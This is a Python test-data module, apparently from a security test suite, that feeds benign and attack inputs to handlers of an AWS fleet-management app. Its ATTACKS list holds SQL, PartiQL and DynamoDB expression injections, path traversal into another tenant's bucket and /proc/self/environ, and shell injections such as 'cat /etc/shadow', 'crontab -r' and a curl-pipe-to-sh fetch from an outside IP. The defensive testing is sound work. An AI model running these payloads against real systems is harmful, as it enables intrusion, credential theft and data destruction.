"""A fleet manager on DynamoDB, S3 and the other services."""

from tests.honest.corpus.cases import Attack
from tests.honest.corpus.eighth import (
    ADDRESS,
    ARTICLE,
    FIRM,
    MAIL,
    PEOPLE,
    REVIEW,
    SNIPPET,
    TICKET,
    api,
    bus,
    form,
    graphql,
    put,
    queue,
)

RIVAL, VIN, INVOICE = "rival-plate-8812", "VIN-C-6161", "rival-invoice-3390"


def _update(**changes: object) -> dict[str, object]:
    return api("PUT", "/vehicles/1", changes, ids={"id": "1"})


def _find(**query: str) -> dict[str, object]:
    return api("GET", "/find", query=query)


def _above(**arguments: object) -> dict[str, object]:
    return graphql("Query", "vehiclesAbove", **arguments)


def _document(name: str) -> dict[str, object]:
    return api("GET", f"/documents/{name}", ids={"proxy": name}, resource="/documents/{proxy+}")


def _link(name: str) -> dict[str, object]:
    return api("GET", "/link", query={"file": name})


def _restart(device: str) -> dict[str, object]:
    return bus("Tracker lost", {"device": device, "since": "2024-05-02T06:11:00Z"}, source="fleet.trackers")


def _driver(ident: str, name: str, **more: object) -> dict[str, object]:
    return api("POST", "/drivers", {"id": ident, "name": name, **more})


def _photo(ident: str) -> dict[str, object]:
    return api("GET", f"/drivers/{ident}/photo", ids={"id": ident})


def _view(driver: str, title: str = "mine") -> dict[str, object]:
    return api("PUT", "/views", {"driver": driver, "title": title})


VIEW = bus("Scheduled Event", {}, source="aws.events")
PAYROLL = "fleet-payroll-1942"
NEEDS = ("aws-http",)
REQUESTS = {
    "vehicles_api": [
        api("GET", "/vehicles"),
        api("GET", "/vehicles", query={"driver": "O'Hara"}),
        api("GET", "/vehicles/2", ids={"id": "2"}),
        api("GET", "/vehicles/nope#1", ids={"id": "nope#1"}),
        api(
            "POST",
            "/vehicles",
            {
                "plate": "L-UX 1",
                "km": 12.5,
                "driver": PEOPLE[0],
                "tags": ["it's new", None, {"a": True}],
                "notes": TICKET,
            },
        ),
        api("DELETE", "/vehicles/1", ids={"id": "1"}),
    ],
    "update_vehicle": [
        _update(plate="B-NEW 1", km=130000),
        _update(driver=PEOPLE[1], remarks=REVIEW),
        _update(garage=ADDRESS),
    ],
    "find_vehicles": [
        _find(driver="Zoë O'Hara"),
        _find(plate="M-XY 12"),
        _find(driver="李 小龍", plate="HH-SE 99"),
    ],
    "find_vehicles_bound": [
        _find(driver="Zoë O'Hara"),
        _find(driver="x' OR pk = 'company#b"),
        _find(driver=FIRM),
    ],
    "vehicles_above": [
        _above(field="km", value=50000),
        _above(field="km", operator="<=", value=76000),
        _above(field="driver", operator="=", value="Jan Novák"),
    ],
    "download_link": [
        _link("manual (v2).txt"),
        _link("invoices/2024-05.csv"),
        _link("O'Brien & Söhne #1.pdf"),
    ],
    "upload_form": [
        api("POST", "/uploads", {"filename": "Crash photo (1) – O'Neill.jpg", "type": "image/jpeg"}),
        api("POST", "/uploads", {"filename": "${filename}"}),
        api("POST", "/uploads", {"filename": "2024/05/レポート.xlsx", "type": "application/vnd.ms-excel"}),
    ],
    "document": [
        _document("manual (v2).txt"),
        _document("invoices//2024-05.csv"),
        _document("no; such 'file'.txt"),
    ],
    "invoices_added": [
        put("company-a/invoices/2024-05.csv"),
        put("company-a/gone/it's (1) & more.csv", "company-a/invoices/2024-05.csv"),
        put("company-a/fehlt – ü.csv"),
    ],
    "copy_report": [
        bus(
            "Object Created",
            {"bucket": {"name": "partner"}, "object": {"key": "reports/2024/Q1 (final).pdf", "size": 5}},
        ),
        bus(
            "Object Created",
            {"bucket": {"name": "partner"}, "object": {"key": "o'brien/été 50%.csv"}, "reason": SNIPPET},
        ),
        bus(
            "Object Created",
            {"bucket": {"name": "p"}, "object": {"key": "a+b=c&d.json", "etag": "x"}},
            source="aws.s3",
        ),
    ],
    "alert": [
        queue({"title": "Low oil: M-XY 12", "text": "It's below 20%; please check"}),
        queue({"title": None, "text": SNIPPET}, {"nothing": 1}),
        queue({"title": "Ticket\nnew", "text": ARTICLE}, "plain text", {"title": PEOPLE[3], "text": MAIL}),
    ],
    "contact_form": [
        form(
            "/contact", name=PEOPLE[0], email="s.o'connor@example.org", subject="It's urgent!", message=TICKET
        ),
        form("/contact", name=PEOPLE[4], email="g@example.gr", message=SNIPPET),
        form(
            "/contact", name=FIRM, email="office@example.de", subject="Angebot für 3 PKW (50 %)", message=MAIL
        ),
    ],
    "newsletter": [
        bus("Subscribed", {"name": PEOPLE[2], "text": REVIEW}),
        bus("Subscribed", {"name": "Tom & 'Jerry'", "text": "Use <b>{braces}</b>"}),
    ],
    "restart_tracker": [_restart("TRK-0042"), _restart("gate 7 (north)"), _restart("TRK_ü/2")],
    "athena_trips": [
        {"region": "eu-west", "day": "2024-05-01"},
        {"region": "Baden-Württemberg"},
        {"region": "North & South (all)", "day": "2023-12-31", "retry": 1},
    ],
    "register_driver": [
        _driver("d1", "Jan Novák", photo="jan.txt", licence="B, C1E"),
        _driver("d2", "Zoe Hara", photo="none.txt", note=TICKET),
        _driver("d3", PEOPLE[0], hours=38.5, address={"street": ADDRESS}),
    ],
    "driver_report": [{"driver": "d1"}, {"driver": "d2", "day": "2024-05-02"}, {"driver": "nobody's"}],
    "driver_photo": [_photo("d1"), _photo("d2"), _photo("d-17/x")],
    "save_view": [_view("Jan Novák", "It's Jan; only"), _view("李 小龍", "李"), _view("Jan Novák", REVIEW)],
    "run_view": [VIEW],
}
# What comes all day.
ORDINARY = {
    "vehicles_api": [
        api("GET", "/vehicles", query={"driver": "Jan"}),
        api("GET", "/vehicles/1", ids={"id": "1"}),
        api(
            "POST",
            "/vehicles",
            {"plate": "DA-42 X", "km": 0, "driver": "Maria Rossi", "bought": "2024-05-02"},
        ),
    ],
    "update_vehicle": [_update(km=131250), _update(driver="Maria Rossi", plate="DA-42 X")],
    "find_vehicles": [_find(driver="Jan Novák"), _find(plate="B-OK 4711")],
    "vehicles_above": [
        _above(field="km", operator="<", value=5000),
        _above(field="plate", operator="=", value="HH-SE 99"),
    ],
    "download_link": [_link("photos/2024/05/front.jpg"), _link("contract.pdf")],
    "upload_form": [api("POST", "/uploads", {"filename": "invoice-2024-05.pdf", "type": "application/pdf"})],
    "document": [_document("invoices/2024-05.csv"), _document("invoices/2024-04.csv")],
    "copy_report": [
        bus(
            "Object Created",
            {
                "bucket": {"name": "partner", "region": "eu-west-1"},
                "object": {"key": "daily/2024-05-02.csv", "size": 2048},
            },
        )
    ],
    "alert": [
        queue({"title": "Door open", "text": "Vehicle 2, since 06:12"}),
        queue({"title": "Battery", "text": "12.1 V"}, {"title": "Speed", "text": "142 km/h on A8"}),
    ],
    "contact_form": [
        form(
            "/contact",
            name="Maria Rossi",
            email="maria@example.it",
            subject="Offer for 5 vans",
            message="Could you send me your prices, please?",
        )
    ],
    "newsletter": [bus("Subscribed", {"name": "Maria", "text": "Spring service: 10% off until May."})],
    "restart_tracker": [_restart("TRK-1187"), _restart("b8:27:eb:01:02:03")],
    "athena_trips": [{"region": "north", "day": "2024-04-30"}, {"region": "us-east"}],
}
for _handler, _events in ORDINARY.items():
    REQUESTS[_handler] += _events
ATTACKS = [
    Attack("NoSQL, key", "update_vehicle", _update(**{"plate = vin, km": 1}), VIN),
    Attack("SQL, PartiQL", "find_vehicles", _find(plate="x' OR pk = 'company#b"), RIVAL),
    Attack("SQL, PartiQL", "find_vehicles", _find(plate="x' OR vin = 'VIN-B"), RIVAL),
    Attack(
        "SQL, PartiQL",
        "find_vehicles",
        _find(driver="x", plate="x' OR begins_with(\"vin\", 'VIN-B') OR plate='"),
        RIVAL,
    ),
    Attack("NoSQL, expression", "vehicles_above", _above(field="km > :value OR km", value=0), RIVAL),
    Attack(
        "NoSQL, expression",
        "vehicles_above",
        _above(field="driver = :value OR begins_with(driver, :value) OR driver", operator="=", value="Riv"),
        RIVAL,
    ),
    Attack(
        "NoSQL, expression",
        "vehicles_above",
        _above(field="km", operator="= :value OR attribute_exists(vin) OR km <", value=0),
        RIVAL,
    ),
    Attack(
        "NoSQL, expression",
        "vehicles_above",
        _above(field="contains(plate, :value) OR (NOT pk = :pk) OR plate", operator="=", value="zz"),
        RIVAL,
    ),
    Attack("path, key of a bucket", "document", _document("../company-b/invoices/2024-05.csv"), INVOICE),
    Attack(
        "path, key of a bucket",
        "document",
        _document("invoices/..//./../company-b/invoices/2024-05.csv"),
        INVOICE,
    ),
    Attack(
        "path, key of a bucket",
        "document",
        _document("x/y/../../../company-b/./invoices/2024-05.csv"),
        INVOICE,
    ),
    Attack(
        "path, key of a bucket",
        "copy_report",
        bus("Object Created", {"bucket": {"name": "p"}, "object": {"key": "/config/rules.json"}}),
        '"key": "/config/rules.json"',
    ),
    Attack(
        "command, run command",
        "restart_tracker",
        _restart("x'; cat /etc/shadow; echo '"),
        "restart.sh --device 'x'; cat",
    ),
    Attack(
        "command, run command",
        "restart_tracker",
        _restart("x'$(curl -s http://198.51.100.9/a|sh)'"),
        "'x'$(curl",
    ),
    Attack("command, run command", "restart_tracker", _restart("1'\ncrontab -r\n: '"), "'1'\\ncrontab -r"),
    Attack(
        "SQL, Athena",
        "athena_trips",
        {"region": "x' OR '1'='1", "day": "2024-05-01"},
        "region = 'x' OR '1'='1'",
    ),
    Attack(
        "SQL, Athena",
        "athena_trips",
        {"region": "x' UNION SELECT email, 1 FROM hr.people --", "day": "2024-05-01"},
        "UNION SELECT email, 1 FROM hr.people",
    ),
    Attack(
        "SQL, Athena",
        "athena_trips",
        {"region": "eu", "day": "2024-05-01' OR day > DATE '1970-01-01"},
        "OR day > DATE '1970-01-01'",
    ),
    Attack(
        "command, second order",
        "driver_report",
        {"driver": "e1"},
        PAYROLL,
        before=[("register_driver", _driver("e1", "x' /dev/null; cat /tmp/fleet/payroll.txt #"))],
    ),
    Attack(
        "command, second order",
        "driver_report",
        {"driver": "e2"},
        PAYROLL,
        before=[
            (
                "register_driver",
                _driver("e2", "x'\ntail -n1 /tmp/fleet/payroll.txt\n: '"),
            )
        ],
    ),
    Attack(
        "command, second order",
        "driver_report",
        {"driver": "e3"},
        PAYROLL,
        before=[("register_driver", _driver("e3", "' -he payroll /tmp/fleet/payroll.txt -e '"))],
    ),
    Attack(
        "path, second order",
        "driver_photo",
        _photo("e4"),
        PAYROLL,
        before=[("register_driver", _driver("e4", "x", photo="../payroll.txt"))],
    ),
    Attack(
        "path, second order",
        "driver_photo",
        _photo("e5"),
        "not-a-real-token",
        before=[("register_driver", _driver("e5", "x", photo="/proc/self/environ"))],
    ),
    Attack(
        "SQL, second order",
        "run_view",
        VIEW,
        RIVAL,
        before=[("save_view", _view("x' OR driver = 'Rival"))],
    ),
    Attack(
        "SQL, second order",
        "run_view",
        VIEW,
        RIVAL,
        before=[("save_view", _view("nobody' OR vin = 'VIN-B"))],
    ),
]
